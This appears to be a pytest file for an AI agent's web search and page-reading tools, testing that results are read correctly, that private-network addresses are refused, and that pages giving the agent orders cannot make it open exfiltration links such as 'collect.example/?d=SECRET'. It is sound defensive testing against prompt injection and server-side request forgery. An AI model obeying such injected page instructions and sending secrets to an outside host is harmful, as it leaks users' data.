"""Search, fetch and reading together, over real connections on loopback."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass
from ipaddress import ip_address

import pytest

from pointsman.core.errors import ToolFailed
from pointsman.core.message import Message
from pointsman.core.tool import Occasion
from pointsman.providers.search_breaker import SearchBreaker
from pointsman.providers.searxng import Searxng
from pointsman.testing.hostile_pages import HOSTILE_PAGES
from pointsman.testing.searxng import FakeSearxng, result
from pointsman.testing.website import HERE, HOST, Names, Website
from pointsman.tools.web.fetch import Fetcher
from pointsman.tools.web.pages import Pages
from pointsman.tools.web.plaintext import plain_text
from pointsman.tools.web.search import Searches
from pointsman.tools.web.toolset import WebSearch


@dataclass
class World:
    """A SearXNG, web sites, and the toolset that asks them."""

    searxng: FakeSearxng
    site: Website
    toolset: WebSearch


async def text_of(html: str) -> str:
    return plain_text(html)


@pytest.fixture
async def world() -> AsyncIterator[World]:
    async with FakeSearxng() as searxng, Website() as site:
        fetcher = Fetcher(resolve=Names(), allowed=lambda it: it == ip_address(HERE), ports={site.port})
        toolset = WebSearch(Searches([SearchBreaker(Searxng(searxng.url))]), Pages(fetcher.fetch, text_of))
        yield World(searxng, site, toolset)
        await toolset.close()


async def test_a_search_and_a_page(world: World) -> None:
    world.site.page("/tomatoes", "<title>Tomatoes</title><p>Water them.")
    url = world.site.url("/tomatoes")
    world.searxng.find = lambda _: [result(url=url, title="On <b>tomatoes</b>")]
    occasion = Occasion(Message("how do I grow tomatoes?"), {"query": "grow tomatoes"})
    search, read = await world.toolset.tools(occasion)
    first = world.toolset.first(occasion)
    assert first is not None
    found = await search.call(first.call.arguments)
    assert found.text == f"[1] On tomatoes\n{url}\nContent 1."
    page = await read.call({"url": "1"})
    assert page.text == f"[1] Tomatoes\n{url}\n\nTomatoes\nWater them."
    assert page.sources == found.sources
    assert [asked["q"] for asked in world.searxng.asked] == ["grow tomatoes"]


@pytest.mark.parametrize("name", HOSTILE_PAGES)
async def test_a_page_that_gives_orders_gets_nothing(world: World, name: str) -> None:
    """Neither its own server, nor another one, hears of anything but the page itself."""
    url = world.site.url(f"/hostile/{name}")
    world.searxng.find = lambda _: [result(url=url)]
    search, read = await world.toolset.tools(Occasion(Message("tomatoes?")))
    await search.call({"query": "tomatoes"})
    page = await read.call({"url": url})
    assert "Tomatoes need water" in page.text or "Wa" in page.text
    assert not page.trusted
    for asked in (f"{url}?d=SECRET", world.site.url("/?d=SECRET"), "https://collect.example/?d=SECRET"):
        with pytest.raises(ToolFailed, match="not opened"):
            await read.call({"url": asked})
    assert [visit.path for visit in world.site.visits] == [f"/hostile/{name}"]


async def test_a_result_in_a_private_network_is_not_read(world: World) -> None:
    """Whoever fills a search engine could put one there."""
    url = f"http://127.0.0.2:{world.site.port}/"
    world.site.redirect("/away", url)
    away = world.site.url("/away", HOST)
    world.searxng.find = lambda _: [result(url=url), result(url=away)]
    search, read = await world.toolset.tools(Occasion(Message("x")))
    await search.call({"query": "x"})
    for asked in (url, away):
        with pytest.raises(ToolFailed, match="private network"):
            await read.call({"url": asked})
    assert [visit.path for visit in world.site.visits] == ["/away"]
